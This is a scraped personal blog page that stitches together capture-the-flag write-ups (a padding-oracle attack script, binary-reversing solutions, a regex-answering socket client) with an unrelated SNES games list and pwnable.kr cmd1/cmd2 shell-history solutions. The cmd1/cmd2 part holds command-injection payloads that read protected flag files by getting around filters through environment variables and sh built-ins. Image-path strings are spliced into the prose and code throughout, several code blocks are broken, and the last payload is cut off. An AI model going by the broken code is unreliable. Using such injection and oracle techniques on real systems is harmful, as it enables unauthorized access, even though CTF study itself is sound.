            print ("[*] No paddingerror")

if __name__ == '__main__':
    import logging
    import sys

    # This is a random string the server printed for us,
    # assuming have to decrypt this, and see what we get
    encrypted_value ='XImKWrDW5dFvUVDuwbwLy+nHJmDClEXWLcJRmf44atNU2tKZcVFoyT81bmUkL6WPWg7Dn8HMeeWwhiC+CI8QhDtYqGCBidtHZ+alNqnyTn4='padbuster = PadBuster()

    value = padbuster.decrypt(b64decode(encrypted_value), block_size=16, iv=bytearray(16))

    print('Decrypted: %s => %r' % (encrypted_value, value))

It's kind of deceptive in the challenge how a new random base64 string is printed to you on every website refresh. Because of that it can be difficult to figure out what you're supposed to decrypt. I ended up actually editing python-paddingoracle to also print the 'IV' (see the padding oracle article above, but basically IV = intermediate value ^ decrypted 1st block). I saw that the IV was \00*16 (typical default for CBC), so that gave me hope that I was on the right path, and that this really was some usefully encrypted data, and that my padding oracle attack was in fact working.Running the script, and waiting about 30 minutes gets the flag:

Decrypted: XImKWrDW5dFvUVDuwbwLy+nHJmDClEXWLcJRmf44atNU2tKZcVFoyT81bmUkL6WPWg7Dn8HMeeWwhiC+CI8QhDtYqGCBidtHZ+alNqnyTn4= => bytearray(b'\xeeX6\x0c\x99\xb1\xed\x0c4!\xcf\xf0w\xf8u_flag{what_if_i_told_you_you_solved_the_challenge}\x0f\x0f\x0f\x0f\x0f\x0f\x0f\x0f\x0f\x0f\x0f\x0f\x0f\x0f\x0f')

The Rock

(Reversing 100)

Fairly straight forward ELF64 C++ reverse engineering. Using a mix of static, and dynamic tools you can get a feel of what the program is doing. It was mostly figuring out which functions do something useful.

In this challenge we're give an ELF64 binary. Opening it up in IDA reveals the main function, and that it's written in C++, which means there's going to be a lot more garbage data (virtualism, object-oriented, std library, etc. cruft) to siftthrough.

There's 3 ways to go down from this:

  1. Purely static analysis - Figure out what each function does, if it's useful or not, typically starting by backtracking from the function that looks most likely to be a validate function. There should be an algorithm that some how compares some form of the input key, to some form of the known good key. The algorithm maybe tricky, and the keys may be shuffled in all sorts of ways, but it boils down to essentially a comparison.

  2. Purely dynamic analysis - Input a key, and follow it down the call stack, and find what it's compared to. Feed that known good key as your input key. This will really only work if the input key is compared without any encoding to it.

  3. Some combination of the above 2.

I ended up doing (1), but (2) was the smarter choice as the input key was beingcompared directly to an encoded known good key, so simply putting a breakpoint,recording that known good key, and passing it as my input key would do the trick.
But, for whatever reason I wrotethe code for (1) instead.

#!/usr/bin/env python
"""Original binary (rock.elf) is verifying a key via:

    input_key = <input>
    encoded_key = 'FLAG23456912365453475897834567'
    clean_key = ''
    for c in k:
        tmp = (c+20) ^ 0x50
        clean_key += (c1+9) ^ 0x10

    return input_key == clean_key

So to reverse it you just have to do the opposite to get the clean_key
and provide that as the input key
known_good = "FLAG23456912365453475897834567"
ans = ""

for c in known_good:
    tmp = (ord(c)-9) ^ 0x10
    ans += chr( (tmp - 20) ^ 0x50)

# Let's make sure we did this rightshould_be_known_good = ""
for c in ans:
    tmp = (ord(c) ^ 0x50) + 20
    should_be_known_good += chr((tmp ^ 0x10) + 9)

if known_good == should_be_known_good:
    print("Round trip successful, printing the flag: ")

Round trip successful, printing the flag:


(Reversing 125)

Summary: In this challenge you're given a PE32 executable. The executable looks inside of a key file, and compares the contents to an encoded key. The contents of the file are compared as is to the encoded key.

Executing the program gives us:

"W?h?a?t h?a?p?p?e?n?"Opening it up in IDA, and searching for that string, and then backtracing for the root cause reveals to us another interesting string:

Executing the program in wine on Linux crashes... apparently the PE32 uses something that wine hasn't implemented, so you really do need to run this on a Windows box.

So it's pretty obvious that file has to exist. The key is probably put into it and compared directly (it is), but you can verify through running the program in a debugger. That's what I ended up doing, but you can actually skip that and solve this quicker by not.

After getting past the error print, spending some more time debugging, and tracking memory flow reviews to us that the algorithm of this program is basically:

1. Encode the string 'themidathemidathem' by XORing it with a constant key
2. Encode the result from (1) via some more gibberish.
3. Compare (3) to the input file key.

We can follow the flow of the program, and find the result of (2):



(Misc 100)

In this challenge you connect to a server, and it prompts you to provide a correct string that will satisfy a regex expression. You must answer with a satisfiable string, and repeat this process until the server spits out the flag.

I googled for 'reverse regex', and ended up finding the python library rstr. It takes in a regex expression, and returns a string that satisfies it, exactly what we want.

import rstr
import telnetlib
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("", 8001))

s.recv(1024) # junk read

while True:
    question = s.recv(1024)

    print("Asking for: " + question)

    if 'Irregular' in question: # printed when we messed up
    if 'flag' in question: # hoping this is printed when we're doneans = rstr.xeger(question)
    print("Answering: " + ans)
    # The server can't handle '\n' in the middle of an answer
    # as it thinks that's the end of the answer, so we have to ask
    # again for an answer that doesn't have '\n' in it.
    while '\n' in ans[:-1]:
        print('we fucked')
        ans = rstr.xeger(question)
        print("Answering: " + ans)

nc 8001
Can you match these regexes?
Asking for: [QSIb][QVvVxYxS]+(bernie|clementine)0{8}[aWeyq]ag*[a-z]6J{9}[a-z]{6}[T\D\DR0vAp]*(tiger|clinton){9}(table|table)[8gpy]

Answering: ISYVYSvvvvxSxSQVxVxYvVVxQQxvvYVQSxQxYvxxvxVYxxSVxQvxvxQQVvxxQVvxxQVVYxYSSVVVVvxQvQYvxvVxVVVvQclementine00000000eagggggggggggggggggggggggy6JJJJJJJJJvqcnnyYEp]!l)Z'?wUXrtz!TpGekY`wh_|W=Sdj{iE+~=+IZUSR*XRUpxjswI=dIu:PFRd^VrLy$(j!Z&$Ts+>)[email protected]+)X>BStigerclintontigertigertigerclintonclintonclintontigertable8

[Repeated a bunch more times...]


Top 5 SNES games

It's no secret I'm a huge fan of the Super Nintendo. The well told stories, the beautiful tested-through-time graphics, and the amount of game play in so many of the games made during the '90s of the SNES is just unbelievable.

01. Legend of Zelda

Legend of Zelda 1

This game is just unbelievably polished. The story is intact and cohesive (well as much as you can really get in the 90s). The game play keeps you constantly learning new things. Thepuzzles and exploration keeps you constantly looking, and thinking. Very few games can capture both whimsy, and bravery in a single package. A feature that sets this game apart as an AAA classic in the SNES era is most definitely the two halves of the game, the Light and the Dark worlds. The graphics in both are amazingly designed, and still stand up today.

Light and Dark worlds

02. Chrono Trigger

Chrono Trigger is not the most beautiful SNES game, nor the best designed. However, it makes up for all of its flaws with a unique and captivating story, alongside a multi-staged universe. The game takes place along 2 continents, and a few islands, but the trick to making the universe so vast is the game's time travel motif. I have yet to see any other game pull off time travel in ANY sort of way that's as enjoyable, and smooth as Chrono Trigger.

03. Super Mario World

Super Mario World provides an amazingly designed world alongside graphics that I feel are unmatched in aging. The game is still stunning today, and the world is just as fun as it was when the game was released.

04. Super Mario 3

Super Mario 3 is in a group of games that is very rare. It's the 3rd game in a series, and the best one out of them. Most often sequels to games never match the success of the original, however Super Mario 3 breaks that and surpasses both predecessors. It builds upon everything great in the prior series while adding several new features that don'ttake away, but only add fun to the game.

05. Super Mario RPG

This game was released towards the end of the SNES lifespan, and as such didn't do very well. It was forgotten for a little while, but then remembered and today is many SNES fans favorite games. This game is one of the few where you can find typical Nintendo characters (Mario, Luigi, Toad) alongside characters developed by Square Enix. As such, there's main characters in this game, that have yet to be introduced in any other game by Nintendo or with Mario init.

It's also one of the few games where you'll see Mario and Bowser on the same team, exchanging jokes and breaking the fourth wall together. - cmd1, cmd2, and flagA few swigs of the Toddler's Bottle from


Solution and approach I took by just printing out my bash history.

ssh [email protected] -p2222 (pw:guest)

[email protected]:~$ history
    1  ls
# Let's see what do we have here... okay got ourselves a c file.
    2  cat cmd1.c
    3  ls
# Looks like the c file just messes up your PATH env variable.
# We can just avoid it by using absolute paths.
    4  ./cmd "/bin/cat /home/cmd1/flag"
    5  ./cmd1 "/bin/cat /home/cmd1/flag"
# Hmm. Why's it not working.
    6  ./cmd1 "/bin/cat /home/cmd1/$f"
    7  $f = flag; ./cmd1 "/bin/cat /home/cmd1/$f"
# Oh, because the binary also filters out the word 'flag'.
# Binaries inherit the environment of the shell. We can have a variable that just says 'flag'
# and use that variable instead.
    8  export $f = flag; ./cmd1 "/bin/cat /home/cmd1/$f"
    9  export f = flag; ./cmd1 "/bin/cat /home/cmd1/$f"
# Some fail attempts at setting an env variable
   10  export f=flag; ./cmd1 "/bin/cat /home/cmd1/$f"
   11  env
   12  export f=flag; ./cmd1 "/bin/echo $f"
# Okay that seriously should have worked. What the hell is the problem.
   13  /bin/echo
   14  /bin/echo $f15  export f=flag; ./cmd1 "/bin/echo \$f"
# Oh. The shell is expanding $f for us. We need to pass the literal string "$f".
# Gotta escape the $.
   19  export f=flag; ./cmd1 "/bin/cat /home/cmd1/\$f"
Got it. mommy now I get what PATH environment is for :)
   23  unset f
   24  env
   25  f=flag ./cmd1 "/bin/cat /home/cmd1/\$f"
   26  env
# Some testing. You can just pass a local env variable to programs you execute on the CLI,
# without having to mess up your env for any other programs started from that shell. No
# need to export.


The overall idea to this challenge is to leverage sh built-ins. Notice that I say sh and not bash, that's because the program is doing a system(...) API call, which is actually a wrapper around exec("sh -c ..."). There are major differences between the sh shell, and the bash shell.

This is my solution. It's really crazy, and I'm a bit too lazy to explain it/barely know what I was thinking when I crafted this masterpiece. But, basically the idea is you need a / (e.g../cat flag) in order to call a program without a path. So, you have to think of some clever way to get a / into a string.

$ ./cmd2 "\$(printf '%c%c%c%c%c%c%c%c %c%c%c%c%c%c' \$(set \$(printf '%c%c%c%c%c' \$ P A T H);
